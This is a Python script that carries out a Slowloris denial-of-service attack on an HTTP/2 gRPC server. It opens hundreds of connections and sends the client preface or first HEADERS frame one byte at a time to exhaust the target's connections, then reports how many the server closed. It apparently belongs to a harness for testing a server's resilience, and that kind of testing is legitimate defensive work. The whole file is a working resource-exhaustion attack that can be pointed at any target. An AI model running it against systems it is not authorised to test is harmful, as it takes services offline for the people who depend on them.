"""Slowloris: connections that take forever to start.

Half the connections send the 24-byte client preface one byte per --interval seconds; the other
half send the preface and SETTINGS at once, then the first request's HEADERS frame one byte per
--interval. Nothing completes within --duration; the report says how many the server closed.
"""
import time

import attack
import grpc_wire
import h2frames as f


def main():
    p = attack.parser(__doc__, duration=4.0, connections=400, rate=1000.0, rate_help="connections opened per second")
    p.add_argument("--interval", type=float, default=0.5, help="seconds between dribbled bytes [0.5]")
    args = p.parse_args()
    report = attack.Report("slowloris", args)
    report.notes.append(f"file descriptor limit {attack.raise_file_limit()}")
    pool = attack.Pool()
    pending = {}  # connection -> bytes still to dribble
    started = time.monotonic()
    for i in range(args.connections):
        if report.elapsed() >= args.duration:
            break
        connection = attack.connect(args.target, report, connect_timeout=1.0)
        if connection is None:
            continue
        if i % 2 == 0:
            pending[connection] = f.PREFACE + f.settings()
            report.sent["slow preface"] += 1
        else:
            block = grpc_wire.encode_request(grpc_wire.new_encoder(), connection.authority, grpc_wire.HEALTH_CHECK)
            if not connection.send(f.PREFACE + f.settings(), timeout=1.0):
                continue
            pending[connection] = f.headers(1, block)
            report.sent["slow first HEADERS"] += 1
        pool.add(connection)
        attack.pace(args.rate, started, i + 1)
    while report.elapsed() < args.duration:
        for connection, rest in pending.items():
            if rest and not connection.closed and connection.send(rest[:1], timeout=0.1):
                pending[connection] = rest[1:]
                report.sent["bytes dribbled"] += 1
        deadline = time.monotonic() + args.interval
        while time.monotonic() < deadline and report.elapsed() < args.duration:
            pool.drain(wait=0.05)
    report.notes.append(f"{pool.open_count()} of {len(pool.connections)} still open at the end")
    pool.close_all()
    report.finish()


if __name__ == "__main__":
    main()
